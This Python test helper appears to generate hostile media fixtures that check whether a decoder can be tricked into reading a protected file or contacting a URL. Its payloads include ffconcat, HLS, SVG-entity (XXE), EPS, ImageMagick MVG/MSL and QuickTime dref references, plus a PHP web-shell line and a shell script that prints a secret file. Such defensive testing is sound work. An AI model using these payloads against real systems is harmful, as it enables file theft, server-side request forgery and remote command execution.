"""Files that would make a decoder open a second file or a connection, under the names of pictures and videos."""

from __future__ import annotations

import io
import struct
import zipfile

from tests.hostile.attacks.seeds import clip


def disguises(secret_file: str, url: str) -> dict[str, bytes]:
    """Texts and containers that refer elsewhere, by kind.

    Args:
        secret_file: path that must not be read.
        url: address that must not be called.
    """
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as sink:
        sink.writestr("photo.jpg", bytes(64))
    texts = {
        "ffconcat": f"ffconcat version 1.0\nfile '{secret_file}'\nfile '{url}'\n",
        "concat": f"file '{secret_file}'\n",
        "hls": f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n{url}\n#EXTINF:1,\nfile://{secret_file}\n",
        "dash": f'<?xml version="1.0"?><MPD><Period><AdaptationSet><Representation><BaseURL>{url}</BaseURL>'
        "</Representation></AdaptationSet></Period></MPD>",
        "sdp": f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\na=control:{url}\nm=video 5004 RTP/AVP 96\n",
        "asx": f'<asx version="3.0"><entry><ref href="{url}"/></entry></asx>',
        "svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="file://{secret_file}"/>'
        f'<image href="{url}"/></svg>',
        "svg with entities": f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://{secret_file}">]>'
        "<svg>&x;</svg>",
        "eps": f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n({secret_file}) (r) file\n",
        "pdf": f"%PDF-1.7\n1 0 obj<</S/URI/URI({url})>>endobj\n",
        "mvg": f"push graphic-context\nimage over 0,0 0,0 '{url}'\npop graphic-context\n",
        "msl": f'<image><read filename="{secret_file}"/></image>',
        "html": f'<!doctype html><img src="{url}">',
        "php": "<?php system($_GET['c']); ?>",
        "shell": f"#!/bin/sh\ncat {secret_file}\n",
    }
    return {
        **{kind: text.encode() for kind, text in texts.items()},
        "eps with a preview": b"\xc5\xd0\xd3\xc6" + bytes(28) + b"%!PS",
        "zip": archive.getvalue(),
        "program": b"\x7fELF" + bytes(100),
    }


def references(secret_file: str, url: str) -> dict[str, bytes]:
    """Files that are what they say, with a reference to another file inside."""
    mov = clip("mov")
    at = mov.index(b"url \x00\x00\x00\x01")
    return {
        "mov with a data reference to a file": _data_reference(mov, at, b"url ", f"file://{secret_file}\0".encode()),
        "mov with a data reference to a server": _data_reference(mov, at, b"url ", f"{url}\0".encode()),
        "mov with an alias": _data_reference(mov, at, b"alis", _alias(secret_file)),
    }


def _data_reference(mov: bytes, at: int, kind: bytes, target: bytes) -> bytes:
    """The movie with its pixels elsewhere: the entry of `dref` without the flag for "in this file"."""
    entry = kind + bytes(4) + target
    grown = len(entry) + 4 - 12
    out = bytearray(mov[: at - 4] + struct.pack(">I", len(entry) + 4) + entry + mov[at + 8 :])
    for box in (b"dref", b"dinf", b"minf", b"mdia", b"trak", b"moov"):
        place = out.rindex(box, 0, at)
        out[place - 4 : place] = struct.pack(">I", int.from_bytes(out[place - 4 : place], "big") + grown)
    return bytes(out)


def _alias(path: str) -> bytes:
    """A Macintosh alias record with an absolute path, as old QuickTime wrote it."""
    name = path.encode()
    fixed = struct.pack(">IHH", 0, 150, 2) + bytes(142)
    return fixed + struct.pack(">hH", 2, len(name)) + name + bytes(len(name) % 2) + struct.pack(">hH", -1, 0)
